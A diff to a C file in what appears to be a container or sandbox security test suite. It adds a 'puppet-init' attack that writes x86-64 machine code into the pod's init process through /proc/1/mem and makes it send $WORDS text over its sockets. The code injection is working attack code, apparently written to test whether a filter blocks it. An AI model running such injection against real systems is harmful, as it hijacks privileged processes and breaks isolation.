@@ -571,6 +571,81 @@ static void rights_of_init(void)
         through("%#llx", init_rights());
 }
 
+#ifdef __x86_64__
+/* Sends the text to each descriptor that is a socket, then sleeps for ever. */
+__asm__(".pushsection .rodata\n"
+        "puppet:\n"
+        "    movl $3, %ebx\n"
+        "1:  movl %ebx, %edi\n"
+        "    leaq puppet_text(%rip), %rsi\n"
+        "    movl $64, %edx\n"
+        "    movl $0x4040, %r10d\n" /* MSG_DONTWAIT | MSG_NOSIGNAL */
+        "    xorl %r8d, %r8d\n"
+        "    xorl %r9d, %r9d\n"
+        "    movl $44, %eax\n"
+        "    syscall\n"
+        "    incl %ebx\n"
+        "    cmpl $256, %ebx\n"
+        "    jb 1b\n"
+        "2:  movl $34, %eax\n"
+        "    syscall\n"
+        "    jmp 2b\n"
+        "puppet_text:\n"
+        "    .fill 64, 1, 10\n"
+        "puppet_end:\n"
+        ".popsection\n");
+extern const char puppet[], puppet_text[], puppet_end[];
+
+/* Where the system call that the pod's init waits in returns to; 0: it can't be told. */
+static off_t where_init_waits(void)
+{
+    char line[256] = "";
+
+    for (unsigned i = 0; i < 40; i++) {
+        FILE *file = fopen("/proc/1/syscall", "re");
+        const char *last = file && fgets(line, sizeof(line), file) ? strrchr(line, ' ') : NULL;
+
+        if (file)
+            fclose(file);
+        if (last && *line >= '0' && *line <= '9')
+            return (off_t) strtoul(last, NULL, 16);
+        usleep(50 * 1000);
+    }
+    return 0;
+}
+
+/* The pod's init runs what we write there, and is woken. Its text goes to whoever it has a socket to: $WORDS.
+ */
+static void puppet_init(void)
+{
+    int memory = open("/proc/1/mem", O_RDWR | O_CLOEXEC),
+        console = open("/dev/console", O_WRONLY | O_CLOEXEC);
+    const char *words = getenv("WORDS");
+    size_t size = (size_t) (puppet_end - puppet);
+    off_t where = where_init_waits();
+    char code[512];
+
+    memcpy(code, puppet, size);
+    if (words)
+        memcpy(code + (puppet_text - puppet), words, strlen(words));
+    if (where == 0 || pwrite(memory, code, size, where) != (ssize_t) size || write(console, "\n", 1) != 1)
+        printf("%s=not tried: %s\n", attack, strerror(errno));
+    else
+        printf("%s=sent\n", attack);
+    fflush(stdout);
+    for (;;)
+        pause();
+}
+#else
+static void puppet_init(void)
+{
+    printf("%s=not tried\n", attack);
+    fflush(stdout);
+    for (;;)
+        pause();
+}
+#endif
+
 /* ----- The filter ----- */
 
 #define CALL(attack, name)                                                                                   \
@@ -1004,6 +1079,7 @@ static const struct {
     { "runtime", runtime },
     { "memory-of-init", memory_of_init },
     { "rights-of-init", rights_of_init },
+    { "puppet-init", puppet_init },
     { "devices", devices },
     { "mount-calls", calls },
     { "namespace-calls", calls },
